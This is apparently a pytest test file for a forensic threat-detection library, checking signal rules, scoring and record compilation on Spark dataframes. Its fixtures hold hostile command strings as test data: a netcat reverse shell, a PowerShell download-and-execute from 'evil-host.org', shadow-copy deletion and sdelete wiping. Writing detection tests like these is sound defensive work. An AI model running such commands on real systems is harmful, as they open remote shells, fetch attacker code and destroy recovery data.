import json

from quarry.operators import compilers, scoring, signals

POSITIVE = [
    ("admin_share_access", "event_log_fact", {"event_id": "5140", "message": r"\\host\C$ was read"}),
    ("explicit_credential_logon", "event_log_fact", {"event_id": "4648"}),
    ("privileged_group_modification", "event_log_fact", {"event_id": "4732", "message": "group S-1-5-32-544"}),
    ("anti_forensics_execution", "process_fact", {"cmdline": "sdelete64 -p 3 notes"}),
    ("appcompatcache_execution_from_staging", "appcompatcache_execution_fact", {"path": r"C:\Users\Public\a.exe"}),
    ("archive_in_staging_path", "filesystem_timeline_fact", {"path": "/Windows/Temp/out.zip"}),
    ("c2_reverse_shell_cmdline", "process_fact", {"cmdline": "nc -e /bin/sh 198.51.100.7 4444"}),
    ("c2_staging_domain", "powershell_command_fact", {"command": "IEX DownloadString('http://files.evil-host.org/a')"}),
    ("dga_domain", "network_ioc_fact", {"value": "http://198.51.100.7:4444/x"}),
    ("executes_from_temp_path", "process_fact", {"path": r"C:\Users\u\AppData\Local\Temp\a.exe"}),
    ("external_inbound_to_sensitive_listener", "network_connection_fact", {"src_port": "3389", "dst_ip": "8.8.4.4"}),
    ("ifeo_debugger_hijack", "registry_persistence_fact", {"registry_path": r"X\Image File Execution Options\sethc.exe", "value_name": "Debugger"}),
    ("inhibit_system_recovery", "process_fact", {"cmdline": "vssadmin Delete Shadows /all"}),
    ("injected_pe_image_in_executable_memory", "memory_injection_fact", {"characterization": "mz_pe"}),
    ("jumplist_access_to_staging", "jumplist_fact", {"path": r"C:\Users\Public\a.txt"}),
    ("kernel_driver_nonstandard_path", "registry_persistence_fact", {"registry_path": r"HKLM\System\Services\evil", "value_name": "ImagePath", "value_data": r"\??\C:\Users\x\evil.sys"}),
    ("lnk_execution_from_staging", "lnk_execution_fact", {"target_abs_path": r"C:\Users\Public\a.exe"}),
    ("mass_encryption_burst", "filesystem_timeline_fact", {"path": r"C:\d\name.xlsx.locked"}),
    ("null_or_empty_cmdline_on_executable", "process_fact", {"image_name": "a.exe", "cmdline": None}),
    ("outbound_to_known_c2_pattern", "network_connection_fact", {"pid": "7", "direction": "outbound", "is_suspicious": "true"}),
    ("process_hollowing_indicators", "memory_injection_fact", {"characterization": "unmapped_main_image"}),
    ("registry_run_key_pointing_to_temp", "registry_persistence_fact", {"registry_path": r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run", "value_data": r"C:\ProgramData\a.exe"}),
    ("rwx_memory_region_with_unusual_protection", "memory_injection_fact", {"protection": "PAGE_EXECUTE_READWRITE"}),
    ("safeboot_alternateshell_persistence", "registry_persistence_fact", {"registry_path": r"SYSTEM\Control\SafeBoot", "value_name": "AlternateShell", "value_data": "evil.exe"}),
    ("scheduled_task_with_hidden_action", "scheduled_task_fact", {"hidden": "true"}),
    ("service_account_interactive_execution", "sid_fact", {"sid": "S-1-5-19", "process_name": "cmd.exe"}),
    ("spawned_by_lolbin_with_suspicious_chain", "process_relationship_fact", {"parent_process_name": "rundll32.exe", "process_name": "powershell.exe"}),
]
NEGATIVE = [
    ("event_log_fact", {"event_id": "4732", "message": "group S-1-5-32-545"}),
    ("process_fact", {"image_name": "a.exe", "path": r"C:\Windows\System32\a.exe"}),  # no command line was read at all
    ("process_fact", {"image_name": "smss.exe", "cmdline": ""}),
    ("registry_persistence_fact", {"value_data": r"C:\Windows\System32\drivers\disk.sys"}),
    ("registry_persistence_fact", {"registry_path": "SafeBoot", "value_name": "AlternateShell", "value_data": None}),
    ("network_connection_fact", {"src_port": "3389", "dst_ip": "192.168.1.4"}),
    ("network_ioc_fact", {"value": "https://www.example.org:443/x"}),
    ("file_execution_fact", {"path": r"C:\ProgramData\Package Cache\setup.exe"}),
    ("powershell_command_fact", {"command": "IEX DownloadString('http://files.corp.local/a')"}), ("decoded_string_fact", {"decoded_preview": "curl http://stage.example/a"}),
    ("event_log_fact", {"event_id": "11", "message": r"file C:\Users\x\odd.sys was opened"}), ("registry_persistence_fact", {"value_name": "Start", "value_data": r"C:\Users\x\odd.sys"}),
    ("process_fact", {"cmdline": "agent -l 4444 -s 198.51.100.7:443"}), ("process_fact", {"path": "/mnt/tmp/image/Windows/System32/a.exe"}),
    ("process_fact", None),
    (None, {"path": r"C:\Temp\a.exe"}),
]
MORE = [
    ("executes_from_temp_path", "process_fact", {"image_path": r"C:\Users\u\AppData\Local\Temp\a.exe"}), ("executes_from_temp_path", "file_execution_fact", {"path": "/mnt/ntfs/Windows/Temp/a.exe"}),
    ("c2_reverse_shell_cmdline", "process_fact", {"cmdline": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"}), ("c2_reverse_shell_cmdline", "process_fact", {"cmdline": "powershell IEX (New-Object Net.WebClient).DownloadString('x')"}),
    ("kernel_driver_nonstandard_path", "event_log_fact", {"event_id": "7045", "message": r"A service was installed: C:\Temp\odd.sys"}), ("kernel_driver_nonstandard_path", "service_fact", {"image_path": r"C:\Temp\odd.sys"}),
]
SCHEMA = "fact_id string, fact_type string, fields map<string,string>"


def test_each_rule_fires_on_its_fact_and_not_on_others(spark):
    assert {n for n, _, _ in POSITIVE} == set(signals.rules())
    positive = POSITIVE + MORE
    rows = [(f"p{i}", kind, fields) for i, (_, kind, fields) in enumerate(positive)] + [(f"n{i}", *row) for i, row in enumerate(NEGATIVE)]
    got = {r.fact_id: r.signals for r in signals.with_signals(spark.createDataFrame(rows, SCHEMA)).collect()}
    assert len(got) == len(rows)
    for i, (name, _, _) in enumerate(positive):
        assert name in got[f"p{i}"], name
    assert {i: got[f"n{i}"] for i in range(len(NEGATIVE)) if got[f"n{i}"]} == {}


def test_findings_gather_signals_and_outliers(spark):
    usage = [(f"u{i}", "srum_usage_fact", {"bytes_sent": str(800 + 180 * i)}) for i in range(10)] + [("far", "srum_usage_fact", {"bytes_sent": "100000000"})]
    facts = spark.createDataFrame(usage + [("a", "event_log_fact", {"event_id": "4648"})], SCHEMA)
    findings = spark.createDataFrame([(1, "far"), (1, "a"), (2, "u3"), (3, "absent")], "finding_id long, fact_id string")
    got = {r.finding_id: r.signals for r in signals.finding_signals(findings, facts).collect()}
    assert got == {1: ["explicit_credential_logon", "srum_egress_outlier"], 2: [], 3: []}
    assert signals.egress(facts.where("fact_id < 'u3'")).count() == 0  # too few rows


SCORES = [
    ("memory_injection_fact", {}, 100), ("process_fact", {"path": r"C:\Temp\x.exe", "cmdline": "powershell -enc AAAA"}, 75 + 55 + 25), ("process_fact", {"path": r"C:\ProgramData\notes.txt"}, 0), ("process_fact", {"process_name": "svchost.exe", "cmdline": "powershell"}, 0),
    ("srum_usage_fact", {"application": "a", "bytes_sent": str(20 << 20)}, 35 + 55), ("psxview_fact", {"pid": "7", "pslist": "False", "psscan": "True"}, 80), ("psxview_fact", {"pid": "4", "pslist": "False", "psscan": "True"}, 0), ("psxview_fact", {"pid": "7", "pslist": "False", "psscan": "True", "thrdscan": "False"}, 0),
    ("registry_persistence_fact", {"value_name": "ImagePath", "value_data": r"C:\Users\Public\a.exe"}, 85), ("registry_persistence_fact", {"value_name": "x", "value_data": r"C:\Users\u\Downloads\a.exe"}, 0), ("registry_persistence_fact", {"registry_path": r"HKLM\X\CurrentVersion\Run", "value_data": "evil"}, 95),
    ("registry_persistence_fact", {"registry_path": r"HKLM\X\Winlogon", "value_data": "explorer.exe"}, 0), ("powershell_command_fact", {"ttp_tags": "credential_harvest"}, 210), ("powershell_command_fact", {"command": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A"}, 85), ("wmi_subscription_fact", {"type": "CommandLineEventConsumer", "extracted_command_template": "powershell -enc AAAA"}, 85 + 60),
    ("rdp_artifact_fact", {"host_or_target": "srv1.corp.net"}, 25), ("rdp_artifact_fact", {"host_or_target": "client.dll"}, 0), ("ssdt_integrity_fact", {"module": "odd.sys"}, 90), ("ssdt_integrity_fact", {"module": "ntoskrnl.exe"}, 0), ("event_log_fact", {"event_id": "7045", "message": r"installed C:\Odd\d.sys"}, 80), ("decoded_string_fact", {"ttp_tags": "encoded_command"}, 90), ("process_fact", None, 0),
]


def test_scores(spark):
    rows = [(str(i), kind, fields, "t") for i, (kind, fields, _) in enumerate(SCORES)]
    got = {int(r.fact_id): (r.score, r.scored) for r in scoring.with_score(spark.createDataFrame(rows, SCHEMA + ", source_tool string")).collect()}
    assert {i: got[i] for i, (_, _, want) in enumerate(SCORES) if got[i][0] != want} == {}


def test_candidates(spark):
    facts = [(f"a{i}", "memory_injection_fact", {"pid": "7"}, "vol_malfind") for i in range(9)] + [("b", "process_fact", {"pid": "7", "path": r"C:\Temp\x.exe"}, "vol_pstree"), ("c", "usb_device_fact", {"path": "u"}, "parse_usb_history"), ("d", "service_fact", {"service_name": "plain"}, "vol_svcscan")]
    found = {r.entity_key: r for r in scoring.candidates(spark.createDataFrame(facts, SCHEMA + ", source_tool string")).collect()}
    one = found["pid:7"]
    assert (one.score, one.n_supports, one.candidate_type, one.ready) == (4 * 100 + 55 + 35 + 30 + 10, 5, "memory_injection", True)
    assert set(found) == {"pid:7", "path:temp/x.exe"} and not found["path:temp/x.exe"].ready and not found["path:temp/x.exe"].review_worthy
    ordered = scoring.selected(spark.createDataFrame(list(found.values())), 1).collect()
    assert [r.entity_key for r in ordered] == ["pid:7"]
    assert {r.bucket: r.n for r in scoring.ceiling(spark.createDataFrame(list(found.values()))).collect()} == {"ready": 1, "single_source": 1}


def test_compile_records(spark):
    rows = [
        ("vol_pstree", 1, json.dumps({"PID": 4, "PPID": 0, "ImageFileName": "System", "Path": "C:\\Windows\\A.exe", "__children": []})),
        ("vol_psscan", 2, json.dumps({"PID": None, "ImageFileName": " "})),
        ("parse_registry_persistence", 3, json.dumps({"registry_path": "X", "value_data": 0})),
        ("vol_malfind", 4, "not json"), ("vol_malfind", 5, None), ("other", 6, "{}"), ("parse_scheduled_tasks_disk", 7, json.dumps({"task_name": "t", "actions": [{"execute": "a.exe"}]})),
        ("vol_pstree", 8, json.dumps({"PID": 4, "PPID": 0, "ImageFileName": "System", "Path": "C:\\Windows\\A.exe"})),
    ]
    made = compilers.compile_records(spark.createDataFrame(rows, "tool string, record_no long, record string"))
    by = {r.record_no: r for r in made.collect()}
    assert {k: r.drop_reason for k, r in by.items()} == {1: None, 2: "missing_pid_or_name", 3: None, 4: "non_dict_record", 5: "non_dict_record", 6: "unknown_tool", 7: None, 8: None}
    assert by[1].fields == {"pid": "4", "parent_pid": "0", "process_name": "System", "path": "C:\\Windows\\A.exe", "normalized_path": "c:/windows/a.exe"}
    assert by[1].fact_id == by[8].fact_id and by[3].fields["value_data"] == "0" and "a.exe" in by[7].fields["actions"]
    counts = {r.tool: (r.record_count, r.compiled_count, r.dropped_count, r.dropped) for r in compilers.ledger(made).collect()}
    assert counts["vol_malfind"] == (2, 0, 2, {"non_dict_record": 2}) and counts["vol_pstree"] == (2, 2, 0, {})
    index = {(r.index_name, r.key) for r in compilers.indexed(made).collect()}
    assert {("by_pid", "4"), ("by_path", "c:/windows/a.exe"), ("by_task_name", "t"), ("by_registry_path", "x")} == index
